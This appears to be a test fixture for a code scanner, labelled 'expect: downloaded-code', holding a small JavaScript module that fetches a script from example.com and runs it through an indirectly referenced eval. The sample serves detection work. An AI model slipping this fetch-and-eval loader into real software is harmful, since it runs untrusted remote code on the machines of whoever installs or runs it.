// expect: downloaded-code
module.exports = async () => {
  const text = await (await fetch("https://example.com/c.js")).text();
  globalThis["eval"](text);
};
